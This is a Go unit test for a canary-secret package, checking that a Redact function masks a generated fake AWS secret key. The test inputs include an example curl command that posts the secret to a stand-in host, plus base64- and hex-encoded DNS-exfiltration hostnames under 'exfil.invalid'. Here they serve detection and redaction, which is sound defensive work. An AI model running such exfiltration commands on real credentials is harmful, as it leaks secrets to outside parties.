package canary

import (
	"encoding/base64"
	"encoding/hex"
	"math/rand"
	"strings"
	"testing"
)

func TestRedact(t *testing.T) {
	s, err := New(rand.New(rand.NewSource(7)))
	if err != nil {
		t.Fatal(err)
	}
	secret := s.Value("AWS_SECRET_ACCESS_KEY")
	h := hex.EncodeToString([]byte(secret))
	for _, tc := range []struct{ in, want string }{
		{"curl -d " + secret + " https://x.invalid", "curl -d {canary:AWS_SECRET_ACCESS_KEY} https://x.invalid"},
		{base64.StdEncoding.EncodeToString([]byte(secret)) + ".b.exfil.invalid", "{canary:AWS_SECRET_ACCESS_KEY}.b.exfil.invalid"},
		{h[:40] + "." + h[40:] + ".t.exfil.invalid", "{canary:AWS_SECRET_ACCESS_KEY}.t.exfil.invalid"},
		{"api.example.com", "api.example.com"},
		{"", ""},
	} {
		got := s.Redact(tc.in)
		if got != tc.want {
			t.Errorf("Redact(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if strings.Contains(got, secret) || strings.Contains(got, h[:20]) {
			t.Errorf("Redact(%q) still holds the secret: %q", tc.in, got)
		}
	}
}
